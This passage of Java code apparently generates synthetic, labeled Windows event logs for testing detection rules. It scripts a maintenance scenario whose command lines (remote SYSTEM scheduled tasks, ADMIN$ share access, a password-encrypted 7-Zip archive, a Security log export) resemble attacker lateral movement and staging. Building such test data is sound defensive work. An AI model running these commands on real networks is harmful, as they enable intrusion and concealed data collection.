            push = push.plusSeconds(100 + s.random.nextInt(40));
        }
        // step 3: reboot tasks on the servers; step 4: admin shares; step 5: backup with 7-Zip; step 6: log export
        Instant t3 = t("2026-11-15T02:40:00Z");
        String ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        for (String name : List.of("fs01", "fs02", "app01", "app03")) {
            s.process(
                    jump,
                    t3,
                    tn,
                    jid,
                    "C:\\Windows\\System32\\schtasks.exe",
                    "schtasks  /create /s " + name
                            + ".acme.local /tn \"CHG-2041 reboot\" /tr \"shutdown.exe /r /t 60 /c CHG-2041\" /sc once /st 22:50 /ru SYSTEM /f",
                    ps,
                    "powershell.exe -File C:\\Patches\\push.ps1",
                    l("S6", 3, SCHTASKS));
            t3 = t3.plusSeconds(20 + s.random.nextInt(20));
        }
        Instant t4 = t("2026-11-15T02:52:00Z");
        for (String name : List.of("fs01", "fs02")) {
            s.process(
                    jump,
                    t4,
                    tn,
                    jid,
                    "C:\\Windows\\System32\\net.exe",
                    "net  use \\\\" + name + ".acme.local\\ADMIN$ /user:ACME\\msp-tnguyen",
                    "C:\\Windows\\System32\\cmd.exe",
                    "\"C:\\Windows\\system32\\cmd.exe\"",
                    l("S6", 4, NET_USE_ADMIN));
            t4 = t4.plusSeconds(30);
        }
        Host fs01 = s.host("acme", "FS01");
        String zip = "C:\\Program Files\\7-Zip\\7z.exe";
        s.process(
                fs01,
                t("2026-11-15T03:01:12.000Z"),
                s.acmeBackup,
                "0x2d1e4",
                zip,
                "\"" + zip
                        + "\" a -pBkp-2041-Acme -mhe=on D:\\Backup\\config-20261114.7z C:\\ProgramData\\AcmeApp\\config",
                "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
                "\"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe\" -job pre-patch",
                l("S6", 5, SEVENZIP_PASSWORD));
        String fid =
                s.logon(fs01, t("2026-11-15T03:19:40.000Z"), acct, 10, jump.ip(), "MSP-JMP01", "Negotiate", l("S6", 6));
        s.process(
                fs01,
                t("2026-11-15T03:20:02.000Z"),
                acct,
                fid,
                "C:\\Windows\\System32\\wevtutil.exe",
                "wevtutil  epl Security C:\\Exports\\fs01-security-20261114.evtx",
                CMD,
                "\"C:\\Windows\\system32\\cmd.exe\"",
                l("S6", 6));
        s.logoff(fs01, t("2026-11-15T03:31:00.000Z"), acct, fid, 10);
        // step 7: the RMM agent updates itself on the servers
        Instant t7 = t("2026-11-15T03:40:00Z");
        for (String name : List.of("FS01", "FS02", "APP01", "APP03")) {
            s.serviceInstall(
                    s.host("acme", name),
                    t7,
                    "MSPCORP RMM Agent",
                    "\"C:\\Program Files\\MSPCORP RMM\\rmmagent.exe\" --service",
                    "LocalSystem",
                    l("S6", 7));
            t7 = t7.plusSeconds(30 + s.random.nextInt(60));
        }
        s.logoff(jump, t("2026-11-15T04:12:00Z"), tn, jid, 10);
    }

    private void fileCreate(Host h, Instant t, String image, String target, Label label) {
        s.event(h, Scenario.SYSMON, 11, t)
                .put("RuleName", "-")
                .put("UtcTime", Scenario.sysmonTime(t.plusMillis(h.skewMillis())))
                .put("ProcessGuid", s.guid())
                .put("ProcessId", (long) (4 + s.random.nextInt(9000)))
                .put("Image", image)
                .put("TargetFilename", target)
                .put("CreationUtcTime", Scenario.sysmonTime(t.plusMillis(h.skewMillis())))
                .label(label);
    }

    private void rcm1149(Host h, Instant t, Account who, String ip, Label label) {
        WinEvent e = s.event(h, Scenario.RCM, 1149, t)
                .put("Param1", who.user())
                .put("Param2", who.domain())
                .put("Param3", ip)
                .label(label);
        e.userDataElement = "EventXML";
    }

    private void lsm(Host h, int id, Instant t, Account who, long session, String ip, Label label) {
        WinEvent e = s.event(h, Scenario.LSM, id, t)
                .put("User", who.toString())
                .put("SessionID", Long.toString(session))
                .put("Address", ip)
                .label(label);
        e.userDataElement = "EventXML";
    }
}
